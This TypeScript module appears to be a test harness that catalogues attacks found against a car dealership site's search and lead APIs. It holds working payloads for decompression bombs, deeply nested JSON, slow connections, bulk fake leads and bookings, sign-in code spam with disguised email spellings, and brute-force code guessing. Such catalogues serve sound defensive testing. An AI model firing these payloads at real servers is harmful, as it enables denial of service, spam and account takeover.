import { brotliCompressSync, constants, gzipSync } from "node:zlib";

/** What an attack sends: one HTTP request, or bytes on a connection of its own that is then held open. */
export type Shot =
  | { method?: "GET" | "POST"; path: string; headers?: { [name: string]: string }; body?: string | Buffer }
  | { raw: string; holdMs: number };

/** What an attacker has read on the site. */
export interface Target {
  cars: readonly { id: string; slug: string }[];
  index: string;
}

/** One way to hurt other visitors. `shot` gives the next request of a crowd of them. */
export interface Attack {
  name: string;
  shot(target: Target, turn: number): Shot;
}

const json = { "content-type": "application/json" };
const form = { "content-type": "application/x-www-form-urlencoded" };
const post = (path: string, body: unknown, headers: { [name: string]: string } = json): Shot => ({
  method: "POST",
  path,
  headers,
  body: typeof body === "string" || Buffer.isBuffer(body) ? body : JSON.stringify(body),
});
const queries = (requests: object[]): Shot => post("/1/indexes/*/queries", { requests });
const carOf = ({ cars }: Target, turn: number) => cars[turn % cars.length] ?? { id: "none", slug: "none" };
const zeros = Buffer.alloc(50_000_000);
const bombs = {
  gzip: gzipSync(zeros),
  br: brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
};
/** Spellings of one mailbox: soft hyphens, zero-width characters, other full stops and capitals in its domain. */
const spellings = ["exam\u00adple.com", "ex\u200bample.com", "example\u3002com", "example\uff0ecom", "EXAMPLE.com"];
/** A day and hour of the next weeks, another one each turn. */
const hourOf = (turn: number) => {
  const day = new Date(Date.now() + (1 + (Math.floor(turn / 9) % 28)) * 86_400_000).toISOString().slice(0, 10);
  return `${day}T${String(9 + (turn % 9)).padStart(2, "0")}:00`;
};
const lead = (turn: number) => ({
  name: `Kim Lee ${turn}`,
  email: `kim${turn}@example.com`,
  phone: `04${10_000_000 + (turn % 80_000_000)}`,
  message: "Is it still there?",
  terms_conditions: true,
});

/** Every attack that was found against the server, and their relatives. */
export const attacks: readonly Attack[] = [
  {
    name: "a numeric filter of spaces (GET of 389 bytes)",
    shot: ({ index }) => ({
      path: `/1/indexes/${index}?numericFilters=${encodeURIComponent(`a${" ".repeat(330)}x`)}`,
    }),
  },
  {
    name: "a numeric filter of digits (GET of 689 bytes)",
    shot: ({ index }) => ({
      path: `/1/indexes/${index}?numericFilters=${encodeURIComponent(`a:${"1".repeat(300)} TO ${"1".repeat(300)}x`)}`,
    }),
  },
  {
    name: "filters of 300 conditions",
    shot: ({ index }, turn) =>
      post(`/1/indexes/${index}/query`, {
        filters: Array.from({ length: 300 }, (_, at) => `(make:"M${at}" OR price>${at + turn})`).join(" AND "),
        facets: ["*"],
      }),
  },
  {
    name: "15,000 snippets",
    shot: ({ index }) =>
      post(`/1/indexes/${index}/query`, { query: "a", attributesToSnippet: Array(15_000).fill("name:10") }),
  },
  {
    name: "50 times all facets",
    shot: ({ index }) => queries(Array(50).fill({ indexName: index, facets: ["*"], maxValuesPerFacet: 1000 })),
  },
  {
    name: "long highlight tags, optional words, 1,000 hits",
    shot: ({ index }) =>
      post(`/1/indexes/${index}/query`, {
        query: "a e s toyota automatic",
        optionalWords: "a e s toyota automatic",
        hitsPerPage: 1000,
        highlightPreTag: "x".repeat(100_000),
        highlightPostTag: "y".repeat(100_000),
        attributesToHighlight: ["*"],
      }),
  },
  {
    name: "60,000 brackets in a search",
    shot: ({ index }) => post(`/1/indexes/${index}/query`, `{"facetFilters":${"[".repeat(60_000)}`),
  },
  {
    name: "60,000 brackets, closed",
    shot: ({ index }) =>
      post(`/1/indexes/${index}/query`, `{"facetFilters":${"[".repeat(60_000)}${"]".repeat(60_000)}}`),
  },
  {
    name: "brackets in a lead",
    shot: () => post("/api/leads", `{"form":"enquiry","data":${"[".repeat(30_000)}${"]".repeat(30_000)}}`),
  },
  {
    name: "a crowd of new search pages",
    shot: (_, turn) => ({ path: `/search?query=toyta+corola+${turn}&range[price]=1:${turn}&x=${turn}` }),
  },
  {
    name: "search pages with 250 refinements",
    shot: (_, turn) => ({
      path: `/search?x=${turn}&${Array.from({ length: 250 }, (_none, at) => `refinementList[make][${at}]=M${at}`).join("&")}`,
    }),
  },
  {
    name: "every car's page, new each time",
    shot: (target, turn) => ({ path: `/cars/${carOf(target, turn).slug}?x=${turn}` }),
  },
  {
    name: "PDFs of every car",
    shot: (target, turn) => ({ path: `/api/cars/${carOf(target, turn).slug}.pdf` }),
  },
  {
    name: "pictures in every size",
    shot: (_target, turn) => ({
      path: `/media/cars/suv-red-${["quarter", "side", "behind"][turn % 3]}-${[320, 640, 960, 1280][turn % 4]}.avif`,
    }),
  },
  {
    name: "reservations of every car",
    shot: (target, turn) =>
      post("/api/leads", { form: "reservation", data: lead(turn), car_id: carOf(target, turn).id, url: "/" }),
  },
  {
    name: "test drives at every hour",
    shot: (target, turn) =>
      post("/api/leads", {
        form: "test-drive",
        data: { ...lead(turn), date_time: hourOf(turn) },
        car_id: carOf(target, turn).id,
        url: "/",
      }),
  },
  {
    name: "prize draws",
    shot: (_, turn) => post("/api/leads", { form: "spin-to-win", data: lead(turn), url: "/spin-to-win" }),
  },
  {
    name: "enquiries",
    shot: (target, turn) =>
      post("/api/leads", { form: "enquiry", data: lead(turn), car_id: carOf(target, turn).id, url: "/" }),
  },
  {
    name: "enquiries of 60 KB",
    shot: (_, turn) =>
      post("/api/leads", {
        form: "enquiry",
        data: { ...lead(turn), message: "a ".repeat(30_000) },
        url: "/",
      }),
  },
  { name: "plain forms", shot: (_, turn) => post("/api/leads", `_form=enquiry&_url=%2F&name=${turn}`, form) },
  {
    name: "sign-in codes for strangers",
    shot: (_, turn) => post("/api/sign-in/code", `type=watchlist&contact=04${10_000_000 + turn}`, form),
  },
  {
    name: "sign-in codes for one mailbox in many spellings",
    shot: (_, turn) => {
      const contact = `kim+${turn}@${spellings[turn % spellings.length]}`;
      return post("/api/sign-in/code", `type=watchlist&contact=${encodeURIComponent(contact)}`, form);
    },
  },
  {
    name: "amounts that mean two things",
    shot: (_, turn) =>
      post("/api/leads", {
        form: "online-payment",
        data: { ...lead(turn), amount: ["10,50", "1.005", "1e309", "-1", "1.000,50"][turn % 5] },
        url: "/",
      }),
  },
  {
    name: "guesses of codes",
    shot: (_, turn) => ({
      ...post("/api/sign-in/verify", `code=${100_000 + turn}`, form),
      headers: { ...form, cookie: "forecourt_pending=x" },
    }),
  },
  {
    name: "bombs (gzip)",
    shot: () => post("/1/indexes/*/queries", bombs.gzip, { ...json, "content-encoding": "gzip" }),
  },
  { name: "bombs (br)", shot: () => post("/api/leads", bombs.br, { ...json, "content-encoding": "br" }) },
  {
    name: "sitemaps and feeds",
    shot: (_, turn) => ({
      path: `${["/sitemap.xml", "/feeds/google-vehicles.xml", "/feeds/meta-vehicles.csv"][turn % 3]}?${turn}`,
    }),
  },
  { name: "connections that say nothing", shot: () => ({ raw: "", holdMs: 20_000 }) },
  {
    name: "bodies that never end",
    shot: () => ({
      raw: "POST /api/leads HTTP/1.1\r\nHost: HOST\r\nContent-Length: 900\r\n\r\n{",
      holdMs: 20_000,
    }),
  },
  {
    name: "answers that nobody reads",
    shot: () => ({ raw: "GET /search HTTP/1.1\r\nHost: HOST\r\n\r\n".repeat(20), holdMs: 20_000 }),
  },
];
